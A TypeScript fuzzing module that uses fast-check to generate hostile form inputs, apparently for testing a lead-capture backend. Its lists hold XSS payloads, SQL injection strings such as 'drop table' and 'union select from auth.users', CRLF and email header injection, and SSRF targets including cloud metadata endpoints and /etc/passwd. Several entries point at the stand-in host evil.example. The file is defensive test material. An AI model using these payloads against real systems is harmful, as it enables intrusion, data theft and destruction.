import fc, { type Arbitrary } from 'fast-check';

const scripts = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  '</textarea></title></style></script><script>alert(1)//',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<math><mglyph><style><!--</style><img title="--&gt;" src=1 onerror=alert(1)>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<a href="javascript:alert(1)">prize</a>',
  '<details open ontoggle=alert(1)>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=card>',
  '<!--<script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<?php system("id") ?>',
  '<%= 7 * 7 %>${7*7}{{7*7}}#{7*7}',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<<b>>bold</b>',
  '<\x01script>alert(1)</script>',
  '<\nscript>alert(1)</script>',
  '<\u200bscript>alert(1)</script>',
  '\u2039script>alert(1)\u2039/script>',
  '\uff1cscript\uff1ealert(1)',
  '&lt;script&gt;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003e\\x3cscript\\x3e',
  '+ADw-script+AD4-alert(1)',
  "'-alert(1)-'",
  '[url=https://evil.example]prize[/url]',
];

const queries = [
  "'; drop table public.leads; --",
  "' or '1' = '1",
  '1); delete from public.leads where (1=1',
  '$$; select pg_sleep(10); $$',
  "\\'; --",
  "'||(select current_user)||'",
  "%' union select * from auth.users --",
  '{"$ne": null}',
  'id=eq.1&or=(id.neq.0)',
  "E'\\\\x00'",
];

const headerLines = [
  'Dana\r\nLocation: https://evil.example/',
  'Dana\nSet-Cookie: session=stolen',
  'Dana\r\n\r\n<html><script>alert(1)</script>',
  '%0d%0aLocation:%20https://evil.example/',
  '\u560d\u560aLocation: https://evil.example/',
  'dana@example.com\r\nBcc: everybody@example.com',
];

/** Most aren't public websites. The others have markup or SQL in the path or query. */
const websites = [
  'javascript:alert(1)',
  'JaVaScRiPt://example.com/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'file:///etc/passwd',
  'http://127.0.0.1:54321',
  'http://[::1]/',
  'http://0x7f.1/',
  'http://169.254.169.254/latest/meta-data/',
  'http://metadata.google.internal/',
  'http://router.lan',
  '//evil.example',
  'https://dana:secret@example.com',
  'https://evil.example\\@example.com',
  'https://example.com/<script>alert(1)</script>?q=<b>#<i>',
  'example.com/"><img src=x onerror=alert(1)>',
  "https://example.com/?q='; drop table leads; --",
];

const emails = [
  '<script>alert(1)</script>@example.com',
  '"<img/src=x>"@example.com',
  'Dana <dana@example.com>',
  'dana@<b>.example',
  "dana'--@example.com",
  'dana@example.com,eve@evil.example',
  'dana%0d%0aBcc:eve@evil.example',
];

const unicode = [
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f467} \u{1f3f3}\ufe0f\u200d\u{1f308}',
  '\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd',
  'invoice\u202efdp.exe\u2066\u2069',
  '\u200b\u200c\u200d\u2060\ufeff',
  'Z\u0334\u0322a\u0337\u0321l\u0336\u0315g\u0338\u0300o',
  '\ufffe\uffff\ufdd0\u{10ffff}',
  '\u0085\u2028\u2029\ufff9\ufffb',
  '\u001b[31mred\u0007\b\b',
  '   \t\r\n  ',
];

/** Property names with a meaning in JavaScript, in `leads`, or in the function's environment. */
export const specialNames: Arbitrary<string> = fc.constantFrom(
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'then',
  'id',
  'form_id',
  'created_at',
  'consent_given',
  'spam_signals',
  'review',
  'redirect',
  'SITE_URL',
);

const knownAttack = fc.constantFrom(
  ...[scripts, queries, headerLines, websites, emails, unicode].flat(),
);
const nearlyHtml = fc.string({
  unit: fc.constantFrom('<', '\u2039', '>', '/', '!', '?', 'b', 'Z', ' ', '\n', '\t', '"', '\\'),
  minLength: 1,
  maxLength: 40,
});
/** Characters that PostgreSQL can't store. Rare, because a call with one of them is rejected as a whole. */
const unstorable = fc.constantFrom('\0', '<\0script>', 'a\0b', '\ud83d', '<b>\udc00\ud800');
const overlong = fc
  .tuple(
    fc.constantFrom('x', '<b>', '\u{1f600}', ' ', "'", 'https://evil.example/ '),
    fc.constantFrom(41, 101, 501, 2049, 5001, 5001, 15_000, 70_000),
  )
  .map(([one, length]) => one.repeat(Math.ceil(length / one.length)));

/** What an attacker or a bot enters in a field. */
export const maliciousText: Arbitrary<string> = fc.oneof(
  { weight: 20, arbitrary: knownAttack },
  {
    weight: 10,
    arbitrary: fc
      .tuple(
        fc.string({ unit: 'binary', maxLength: 12 }),
        knownAttack,
        fc.string({ maxLength: 12 }),
      )
      .map((parts) => parts.join('')),
  },
  { weight: 8, arbitrary: nearlyHtml },
  { weight: 5, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 2, arbitrary: overlong },
  { weight: 1, arbitrary: unstorable },
);

export const maliciousEmail = fc.oneof(fc.constantFrom(...emails, ...headerLines), maliciousText);
export const maliciousWebsite = fc.oneof(fc.constantFrom(...websites), maliciousText);

/** Limited to characters that a header can contain. */
export const maliciousHeader = maliciousText.map((text) =>
  text.slice(0, 2000).replace(/[^\t\x20-\x7e\x80-\xff]/g, '?'),
);
